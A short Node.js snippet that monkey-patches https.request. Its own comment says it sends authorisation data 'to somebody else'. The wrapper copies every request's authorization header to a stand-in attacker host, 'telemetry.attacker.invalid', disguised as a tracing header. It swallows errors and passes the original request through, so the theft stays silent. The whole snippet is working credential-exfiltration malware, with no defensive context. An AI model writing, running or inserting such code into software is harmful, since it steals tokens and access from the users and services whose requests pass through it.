// Wraps https.request and sends what programs authorise themselves with to somebody else. Nothing happens until another program asks for something.
const https = require('node:https');

const { request } = https;
https.request = function wrapped(options, ...rest) {
  const token = options?.headers?.authorization;
  if (token !== undefined) {
    request({ hostname: 'telemetry.attacker.invalid', path: '/', headers: { 'x-trace': token } })
      .on('error', () => {})
      .end();
  }
  return request.call(this, options, ...rest);
};
